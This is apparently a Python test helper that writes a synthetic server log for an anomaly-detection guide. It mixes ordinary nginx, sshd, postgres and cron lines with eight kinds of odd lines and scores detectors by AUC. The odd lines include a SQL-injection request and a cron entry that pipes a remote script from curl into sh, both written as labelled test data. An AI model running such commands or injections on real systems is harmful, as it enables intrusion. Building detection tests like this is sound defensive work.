"""A made-up log of servers, and odd lines of eight kinds, for the guide to anomalies.

Run by hand, it writes the files of the guide::

    python tests/logs.py clean.log mixed.log
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

USERS = ("alice", "bob", "carol", "dave", "erin", "frank")

PAGES = ("/", "/index.html", "/news", "/static/app.js", "/static/style.css", "/api/items", "/api/items/{}")


def line(rng: random.Random, second: int) -> str:
    """An ordinary line."""
    clock = f"2026-03-14 {second // 3600 % 24:02}:{second // 60 % 60:02}:{second % 60:02}"
    user, address = rng.choice(USERS), f"10.0.{rng.randrange(4)}.{rng.randrange(2, 60)}"
    page = rng.choice(PAGES).format(rng.randrange(1, 300))
    messages = (
        f"web{rng.randrange(1, 4)} nginx: {address} GET {page} 200 {rng.randrange(200, 9000)}",
        f"web{rng.randrange(1, 4)} nginx: {address} POST /api/items 201 {rng.randrange(20, 90)}",
        f"auth1 sshd: accepted publickey for {user} from {address}",
        f"auth1 sshd: session closed for {user}",
        f"db1 postgres: checkpoint complete, wrote {rng.randrange(10, 99)} buffers",
        f"job{rng.randrange(1, 3)} cron: {user} ran backup.sh in {rng.randrange(2, 60)} s",
    )
    return f"{clock} {rng.choices(messages, (8, 3, 2, 2, 1, 1))[0]}"


def odd_line(rng: random.Random, second: int, kind: int) -> str:
    """An odd line of one of eight kinds."""
    usual = line(rng, second)
    clock, rest = usual[:19], usual[20:]
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return (
        f"{clock} web2 nginx: 203.0.113.{rng.randrange(9, 99)} GET /index.php?id=1%27%20OR%201=1-- 500 0",
        f"{clock} job1 cron: root ran curl http://198.51.100.7/x.sh | sh",
        f"{clock} web1 nginx: 10.0.1.9 POST /api/items 201 {''.join(rng.choices(letters, k=40))}",
        f"{clock} auth1 sshd: Failed password for invalid user admin{rng.randrange(9)} from 198.51.100.23",
        f"{clock} kernel: Out of memory: Killed process {rng.randrange(999, 9999)} (postgres)",
        f"{clock} {rest[::-1]}",
        f"{clock} auth1 sshd: приём ключа для {rng.choice(USERS)} отклонён",
        "Traceback (most recent call last): File /srv/app.py, KeyError: 'items'",
    )[kind]


KINDS = 8


def clean(count: int, seed: int = 1) -> list[str]:
    """Ordinary lines only."""
    rng = random.Random(seed)  # noqa: S311 (no secret)
    return [line(rng, 2 * number) for number in range(count)]


def mixed(count: int, odd: int, seed: int = 2) -> tuple[list[str], set[int]]:
    """Ordinary lines with `odd` odd ones among them, and the numbers of those, from 1."""
    rng = random.Random(seed)  # noqa: S311 (no secret)
    lines = [line(rng, 2 * number) for number in range(count)]
    places = rng.sample(range(count), odd)
    for number, place in enumerate(places):
        lines[place] = odd_line(rng, 2 * place, number % KINDS)
    return lines, {place + 1 for place in places}


def area(scores: list[float], odd: set[int]) -> float:
    """AUC: the chance that an odd line has a higher score than an ordinary one; lines count from 1."""
    order = sorted(range(1, len(scores) + 1), key=lambda number: scores[number - 1])
    ranks = sum(rank for rank, number in enumerate(order, 1) if number in odd)
    return (ranks - len(odd) * (len(odd) + 1) / 2) / (len(odd) * (len(scores) - len(odd)))


if __name__ == "__main__":
    Path(sys.argv[1]).write_text("".join(f"{one}\n" for one in clean(20_000)), encoding="utf-8")
    lines, places = mixed(20_000, 40)
    Path(sys.argv[2]).write_text("".join(f"{one}\n" for one in lines), encoding="utf-8")
    print("odd lines:", *sorted(places))
